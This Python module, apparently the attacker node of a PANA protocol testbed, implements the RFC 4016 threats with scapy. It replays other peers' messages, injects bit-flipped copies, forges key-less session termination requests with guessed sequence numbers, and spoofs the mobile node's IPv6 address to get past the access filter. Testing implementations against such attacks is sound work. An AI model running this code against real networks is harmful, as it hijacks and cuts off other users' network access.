"""Attacks on PANA sessions of others, by a neighbour who hears all of them (RFC 4016)."""

from __future__ import annotations

import random

from scapy.layers.inet import UDP
from scapy.layers.inet6 import ICMPv6EchoReply, ICMPv6EchoRequest, IPv6
from scapy.layers.l2 import Ether

from agents.core.machine import PeerError
from agents.core.reader import WireError
from agents.nodes.attacker.attack import Attack, Frames, comes_from, datagram, goes_to, is_pana
from agents.nodes.attacker.settings import Known
from agents.pana import rfc5191_wire as pana
from agents.pana.wire import Avp, AvpName, Kind, Message, TerminationCause

_FLIPS = 24
"""Copies of each message, every one with another bit wrong."""


def _message(frame: Ether) -> Message | None:
    try:
        return pana.decode(bytes(frame[UDP].payload)) if is_pana(frame) else None
    except (WireError, PeerError):
        return None


class Replay(Attack):
    """All messages of another's session again: as they were, and from the own address."""

    def __init__(self, known: Known, rng: random.Random) -> None:
        super().__init__(known, rng)
        self._recorded: list[Ether] = []

    def heard(self, frame: Ether, now: float) -> Frames:  # noqa: ARG002
        """Keep it; a final request to the own address is what is hoped for."""
        if goes_to(frame, self.known.own.address):
            if (message := _message(frame)) and message.kind is Kind.RESULT:
                self.won = "a PANA session of another's messages"
        elif is_pana(frame):
            self._recorded.append(frame)
        return ()

    def attack(self, now: float) -> Frames:  # noqa: ARG002
        """Send everything again."""
        self.told = f"{len(self._recorded)} messages, each sent again twice"
        recorded, self._recorded = self._recorded, []
        own, paa = self.known.own, self.known.far
        for frame in recorded:
            yield bytes(frame)
            if goes_to(frame, paa.address):
                ports = frame[UDP].sport, frame[UDP].dport
                yield datagram(own, paa, ports, bytes(frame[UDP].payload))


class Flip(Replay):
    """Copies of each message as it passes, with a bit wrong, and all of them once more later."""

    def __init__(self, known: Known, rng: random.Random) -> None:
        super().__init__(known, rng)
        self._copies: list[bytes] = []

    def heard(self, frame: Ether, now: float) -> Frames:
        """Send the copies on the heels of the message."""
        known = len(self._recorded)
        super().heard(frame, now)
        if len(self._recorded) == known:
            return ()
        copies = list(self._flipped(frame))
        self._copies += copies
        return copies

    def _flipped(self, frame: Ether) -> Frames:
        data = bytes(frame[UDP].payload)
        for _ in range(_FLIPS):
            place = self.rng.randrange(8 * len(data))
            wrong = bytearray(data)
            wrong[place // 8] ^= 1 << place % 8
            yield bytes(
                Ether(src=frame.src, dst=frame.dst)
                / IPv6(src=frame[IPv6].src, dst=frame[IPv6].dst)
                / UDP(sport=frame[UDP].sport, dport=frame[UDP].dport)
                / bytes(wrong)
            )

    def attack(self, now: float) -> Frames:  # noqa: ARG002
        """Send all copies again; to make others would take a processor that victims share."""
        self.told = f"{len(self._recorded)} messages, {_FLIPS} wrong copies of each, twice"
        return tuple(self._copies)


class Termination(Attack):
    """Termination requests in the name of either end, without its key (RFC 4016 section 6.3)."""

    def __init__(self, known: Known, rng: random.Random) -> None:
        super().__init__(known, rng)
        self._last: dict[bool, tuple[Ether, Message]] = {}

    def heard(self, frame: Ether, now: float) -> Frames:  # noqa: ARG002
        """Keep the last message of each end."""
        if (message := _message(frame)) and message.session:
            self._last[comes_from(frame, self.known.far.address)] = frame, message
        return ()

    def attack(self, now: float) -> Frames:  # noqa: ARG002
        """Ask both ends to end the session, with the numbers that they may wait for."""
        numbers = {message.sequence + more for _, message in self._last.values() for more in (0, 1)}
        self.told = f"{4 * len(numbers)} requests to end the session"
        for frame, heard in self._last.values():
            for number in numbers:
                for auth in ((), (Avp(AvpName.AUTH, self.rng.randbytes(16)),)):
                    cause = Avp.u32(AvpName.TERMINATION_CAUSE, TerminationCause.ADMINISTRATIVE)
                    forged = Message(Kind.TERMINATION, True, heard.session, number, (cause, *auth))
                    yield bytes(
                        Ether(src=frame.src, dst=frame.dst)
                        / IPv6(src=frame[IPv6].src, dst=frame[IPv6].dst)
                        / UDP(sport=frame[UDP].sport, dport=frame[UDP].dport)
                        / pana.encode(forged)
                    )


class ServiceTheft(Attack):
    """Packets into the core from the mobile node's address (RFC 4016 section 6.4).

    The answers go to the mobile node; on a hub the neighbour reads them all the same.
    """

    _NUMBER = 0x5EA1

    def heard(self, frame: Ether, now: float) -> Frames:  # noqa: ARG002
        """An answer from beyond the filter is what is hoped for."""
        if ICMPv6EchoReply in frame and frame[ICMPv6EchoReply].id == self._NUMBER:
            self.won = "answers from beyond the filter"
        return ()

    def attack(self, now: float) -> Frames:  # noqa: ARG002
        """Send from the mobile node's address, and from the own one."""
        known = self.known
        self.told = "no answer from beyond the filter"
        for source in (known.near.address, known.own.address):
            for number in range(3):
                yield bytes(
                    Ether(src=known.own.mac, dst=known.far.mac)
                    / IPv6(src=source, dst=known.core_address)
                    / ICMPv6EchoRequest(id=self._NUMBER, seq=number)
                )
